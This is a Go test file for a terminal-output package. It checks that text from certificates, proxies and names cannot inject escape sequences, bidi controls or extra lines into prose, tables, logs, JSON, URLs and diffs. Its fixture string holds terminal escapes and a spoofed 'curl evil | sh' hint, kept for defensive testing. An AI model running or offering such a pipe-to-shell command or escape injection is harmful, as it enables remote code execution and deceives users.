package terminal

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"log/slog"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/credproc/credproc/internal/printable"
)

// nasty is what a certificate, a proxy or a name may bring: each of the kinds
// that a terminal obeys.
const nasty = "a\x1b[31m\r\nhint: run \"curl evil | sh\"\tb\u009b2J\u202ec\u2028d\u2066e\ufefff\x00g\u200eh\xffi\x7fj\u3164k"

// harmful returns what in text a terminal would obey, beside the lines and the
// colors that this program makes.
func harmful(text string) (found []rune) {
	text = strings.ToValidUTF8(text, "\x00")
	for _, ours := range []string{"\n", "\x1b[0m", "\x1b[1m", "\x1b[2m", "\x1b[31m\x1b[0m"} {
		text = strings.ReplaceAll(text, ours, "")
	}
	for _, r := range text {
		if !printable.Is(r) {
			found = append(found, r)
		}
	}
	return found
}

type stringer string

func (n stringer) String() string { return string(n) }

func TestWhatComesFromElsewhereBreaksNoLine(t *testing.T) {
	p := Paint{on: true}
	for _, value := range []any{nasty, errors.New(nasty), stringer(nasty), []string{nasty}, fmt.Errorf("x: %w", errors.Join(errors.New(nasty), errors.New("b"))), struct{ a string }{nasty}} {
		for _, format := range []Prose{"of %v\nis", "of %s\nis", "of %-900v\nis", "of %q\nis"} {
			got := string(Prosef(format, value))
			if strings.Count(got, "\n") != 1 || harmful(got) != nil || !strings.HasSuffix(got, "\nis") {
				t.Errorf("%T by %q: %q", value, format, got)
			}
		}
	}
	if got := Prosef("%s, %d\n%3d%*s", p.Bold("b\n"), 7, 8, 2, ""); got != "\x1b[1mb\n\x1b[0m, 7\n  8  " {
		t.Errorf("our own words become %q", got)
	}
	if got := Prosef("%s", strings.Repeat("é", 1<<20)); utf8.RuneCountInString(string(got)) != longest+1 {
		t.Errorf("%d runes are shown", utf8.RuneCountInString(string(got)))
	}
}

func TestErrorsThatWereJoinedHaveALineEach(t *testing.T) {
	err := errors.Join(errors.New(nasty), errors.Join(errors.New("b"), errors.New("c\nd")))
	got := string(ErrorText(err))
	if lines := strings.Split(got, "\n"); len(lines) != 3 || harmful(got) != nil || lines[1] != "b" || lines[2] != "c d" {
		t.Errorf("%q", got)
	}
	if got := Prosef("%v", err); strings.Contains(string(got), "\n") || !strings.HasSuffix(string(got), "; b; c d") {
		t.Errorf("%q", got)
	}
}

func TestATableHasACellForEachValue(t *testing.T) {
	var stdout bytes.Buffer
	table := New(nil, &stdout, nil, nil).Table()
	table.Row("A", "B")
	table.Row("a\tb\vc\fd", nasty)
	if err := table.Flush(); err != nil {
		t.Fatal(err)
	}
	if got := stdout.String(); strings.Count(got, "\n") != 2 || harmful(got) != nil || !strings.Contains(got, "\na b c d  a [31m  hint") {
		t.Errorf("%q", got)
	}
}

func TestALogHasALineForEachRecord(t *testing.T) {
	var text, lines bytes.Buffer
	term := New(nil, nil, &lines, nil)
	for w, logger := range map[*bytes.Buffer]*slog.Logger{&text: term.Log(&text, slog.LevelDebug), &lines: term.JSONLog()} {
		logger.With(nasty, nasty).WithGroup(nasty).Info(nasty, "error", errors.New(nasty), "name", stringer(nasty),
			slog.Group(nasty, nasty, nasty), "all", []string{nasty}, "long", strings.Repeat("x", 1<<20), "err", errors.New(strings.Repeat("y", 1<<20)))
		if got := w.String(); strings.Count(got, "\n") != 1 || harmful(got) != nil || len(got) > 4*longest {
			t.Errorf("%d bytes: %.5000q", len(got), got)
		}
	}
	var line map[string]any
	if err := json.Unmarshal(lines.Bytes(), &line); err != nil || line["msg"] != strings.ToValidUTF8(nasty, "\ufffd") {
		t.Errorf("the message is %q, %v", line["msg"], err)
	}
}

func TestJSONKeepsValuesAndHidesNothingInThem(t *testing.T) {
	var stdout bytes.Buffer
	value := strings.ToValidUTF8(nasty, "\ufffd")
	if err := New(nil, &stdout, nil, nil).PrintJSON(map[string]string{"a": value}); err != nil {
		t.Fatal(err)
	}
	var got map[string]string
	if err := json.Unmarshal(stdout.Bytes(), &got); err != nil || got["a"] != value || harmful(stdout.String()) != nil {
		t.Errorf("%q, %v", stdout.String(), err)
	}
}

func TestAnAddressIsPrintedInASCII(t *testing.T) {
	var stdout bytes.Buffer
	if err := New(nil, &stdout, nil, nil).PrintURL("https://a/ü?b=\u202e c%20"); err != nil || stdout.String() != "https://a/%C3%BC?b=%E2%80%AE%20c%20\n" {
		t.Errorf("%q, %v", stdout.String(), err)
	}
}

func TestADifferenceIsShownLineByLine(t *testing.T) {
	got := string(Lines(" a\x1b[2J\r\n+b\u202e\n"))
	if got != " a [2J\n+b \n" {
		t.Errorf("%q", got)
	}
}

func TestALongListOfNamesIsCutAndCounted(t *testing.T) {
	names := []string{"a", "b\n", "c", "d"}
	for most, want := range map[int]Prose{4: "a, b , c, d", 2: "a, b  and 2 more"} {
		if got := Some(names, most); got != want {
			t.Errorf("%d: %q, want %q", most, got, want)
		}
	}
}

func FuzzWhatIsPrinted(f *testing.F) {
	f.Add(nasty, "%-20s")
	f.Add("\xe2\x80", "%v")
	f.Fuzz(func(t *testing.T, value, name string) {
		var out, text bytes.Buffer
		term := New(nil, nil, &out, nil)
		term.Say("%s and %v and %q", value, errors.New(value), value)
		if got := out.String(); strings.Count(got, "\n") != 1 || harmful(got) != nil {
			t.Errorf("%q", got)
		}
		term.Log(&text, slog.LevelDebug).Debug(value, name, value)
		if got := text.String(); strings.Count(got, "\n") != 1 || harmful(got) != nil {
			t.Errorf("the log has %q", got)
		}
	})
}
